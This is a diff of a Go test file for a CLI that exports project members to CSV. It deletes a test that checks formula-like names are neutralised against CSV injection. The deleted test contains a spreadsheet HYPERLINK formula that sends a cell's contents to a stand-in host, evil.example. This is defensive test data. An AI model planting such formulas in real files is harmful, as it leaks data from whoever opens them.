@@ -475,50 +475,8 @@ func TestExportStoppedHalfWayIsRefused(t *testing.T) {
 // Members whose names a spreadsheet would run as formulas (CSV
 // injection): apply export's members CSV writes them with a leading ', as
 // -o csv does (numbers such as +1 stay as they are), and apply reads the
-// CSV back as the names were: the plan changes nothing.
-func TestExportMembersCSVNeutralisesFormulas(t *testing.T) {
-	srv, e := newAcme(t)
-	writeFile(t, e, "made.yaml", `version: 1
-project:
-  name: Acme Clinic
-members:
-  - externalId: "@ext-1"
-    firstName: '=HYPERLINK("https://evil.example/?d="&A1,"open")'
-    lastName: "-Ode"
-    role: Patient
-  - email: mallory@example.com
-    firstName: "'=quoted"
-    lastName: "+1"
-`)
-	if r := e.Run("apply", "-f", "made.yaml", "--yes"); r.Code != 0 {
-		t.Fatalf("apply: %+v", r)
-	}
-	r := e.Run("apply", "export", "--members-csv", "members.csv")
-	if r.Code != 0 || r.Stderr != "" || !strings.HasSuffix(r.Stdout, "\nmembers: members.csv\n") {
-		t.Fatalf("apply export --members-csv: %+v", r)
-	}
-	got, err := os.ReadFile(filepath.Join(e.Home, "members.csv"))
-	if err != nil {
-		t.Fatal(err)
-	}
-	want := "email,externalId,firstName,lastName,role,patient,admin,active,accessPolicy\n" +
-		"admin@example.com,,Medplum,Admin,Practitioner,,true,true,\n" +
-		"homer@example.com,,Homer,Simpson,Patient,,false,true,\n" +
-		`,'@ext-1,"'=HYPERLINK(""https://evil.example/?d=""&A1,""open"")",'-Ode,Patient,,false,true,` + "\n" +
-		"mallory@example.com,,''=quoted,+1,Practitioner,,false,true,\n"
-	if string(got) != want {
-		t.Errorf("members.csv:\n%s\nwant:\n%s", got, want)
-	}
-	writeFile(t, e, "project.yaml", r.Stdout)
-	checkPlan(t, e.Run("apply", "-f", "project.yaml", "--dry-run").ExpectCode(t, 0, ""), "Acme Clinic", 0)
-	if m := srv.MembershipByEmail(srv.Seed.ProjectID, "mallory@example.com"); m == nil {
-		t.Error("mallory is not a member")
-	}
-}
-
-// The same on any server (make test-real too), in a project of its own:
-// the formula members' rows are neutralised, and apply of the export with
-// its members CSV plans no change.
+// CSV back as the names were: the plan changes nothing. In a project of
+// its own, on the sandbox and (make test-real) a real Medplum.
 func TestTargetExportMembersCSVNeutralisesFormulas(t *testing.T) {
 	tg := clitest.NewTarget(t)
 	name := tg.Unique("export-formula")
